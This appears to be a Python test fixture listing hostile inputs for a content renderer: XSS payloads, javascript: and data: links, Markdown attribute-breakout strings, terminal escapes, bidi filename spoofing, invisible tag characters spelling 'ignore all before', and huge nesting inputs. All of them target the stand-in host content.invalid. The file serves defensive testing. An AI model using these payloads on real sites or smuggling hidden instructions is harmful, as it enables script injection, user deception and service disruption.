"""Content that attacks whoever shows it: by name, for every view to be tried with.

None of it may run, load, style or move anything. MARK is in what a script of the content would do, so that a browser's
test finds out: it would set `window.owned`, or ask HOST for something.
"""

import re
from itertools import product

MARK = "owned"
HOST = "content.invalid"
RUN = f"window.{MARK}=1"
URL = f"https://{HOST}/x.png"

HTML = {
    "script": f"<script>{RUN}</script>",
    "script in Markdown": f"Hello\n\n<script>{RUN}</script>\n\n**bye**",
    "script without an end": f"<script src=//{HOST}/x.js>",
    "closing what is around": f"</code></pre></div></li></ol></div></details><script>{RUN}</script>",
    "closing the style": f"</style><script>{RUN}</script>",
    "comment and CDATA": f"<!-- --><![CDATA[<script>{RUN}</script>]]>--><!--",
    "event handler": f'<img src=x onerror="{RUN}">',
    "handler without quotes": f"<svg/onload={RUN}>",
    "handler in details": f"<details open ontoggle={RUN}><summary>x</summary></details>",
    "SVG": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script><use href="{URL}#a"/></svg>',
    "MathML": f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}"></style></mglyph></table></mtext></math>',
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>" src="{URL}"></iframe>',
    "form": f'<form action="{URL}"><input autofocus onfocus="{RUN}"><button>OK</button></form>',
    "meta and base": f'<meta http-equiv="refresh" content="0;url={URL}"><base href="https://{HOST}/">',
    "style element": f"<style>* {{ display: none; background: url({URL}) }} @import '{URL}';</style>",
    "style attribute": f'<p style="position:fixed;inset:0;background:url({URL});z-index:99999">over all</p>',
    "named like what pages use": "<a id=getElementById name=body></a><form id=document></form>",
    "template": f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %>",
}
LINKS = {
    f"{kind}, {scheme!r}": form.format(f"{scheme}{RUN}")
    for (kind, form), scheme in product(
        {"link": "[click]({})", "image": "![look]({})", "autolink": "<{}>"}.items(),
        ["javascript:", "JaVaScRiPt&colon;", "data:text/html,", "vbscript:", "file:///"],
    )
}
MARKDOWN = {
    "image that phones home": f"![a picture]({URL})",
    "image within a link": f"[![a picture]({URL})]({URL})",
    "link that ends its attribute": f'[x](https://{HOST}/"onmouseover="{RUN}")',
    "title that ends its attribute": f"[x](https://{HOST} '\" onmouseover=\"{RUN}')",
    "reference": f"[x][1] ![y][1]\n\n[1]: javascript:{RUN} 'hidden words'",
    "link without a scheme": f"[x](//{HOST}/a) [y](a/b) [z](#c) ![i](/logo.png)",
    "language that ends its attribute": f'```"><script>{RUN}</script>\ncode\n```',
    "code that ends its block": f"```html\n</code></pre><script>{RUN}</script>\n```",
    "alignment as style": f"| a |\n|:-:|\n| <b onclick={RUN}>b</b> |",
    "TeX": f"$\\href{{javascript:{RUN}}}{{x}}$ $$\\style{{position:fixed}}{{y}}$$ \\(\\require{{html}}\\)",
}
TEXT = {
    "NUL": "a\x00b",
    "terminal": "\x1b[2J\x1b]0;title\x07\x9b31m\x1b]8;;https://content.invalid\x1b\\link\x1b]8;;\x1b\\",
    "carriage return": "it is safe\rit is not\b\b\b",
    "overridden direction": "invoice\u202egnp.exe \u2066\u2069 \u200e\u200f",
    "entities of the same": "&#x202e;gnp.exe &#0; &#27;[2J &#xd800; &lt;script&gt;",
    "tags that nobody sees": "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all before"),
    "lone surrogates": "\ud800 and \udfff",
    "noncharacters": "\ufffe\uffff\U0010ffff",
    "piled marks": "Z" + "\u0301\u0320" * 500,
    "one long word": "w" * 19_000,
    "one wide character": "\ufdfd" * 300,
}
LARGE = {
    "ten million characters": "All work and no play. " * 450_000,
    "deep quotes": "> " * 9_000 + "deep",
    "deep lists": "\n".join("  " * depth + "- a" for depth in range(130)),
    "deep brackets": "[" * 9_000 + "]" * 9_000,
    "many images": f"![a]({URL})" * 600,
    "much emphasis": "*a_ " * 5_000,
    "long code": "```python\n" + 'f"{' * 6_000 + "\n```",
    "deep JSON": "[" * 19_000,
}
CASES: dict[str, str] = HTML | LINKS | MARKDOWN | TEXT | LARGE
STORABLE = {name: text for name, text in CASES.items() if not re.search("[\x00\ud800-\udfff]", text)}
"""Those that PostgreSQL takes."""
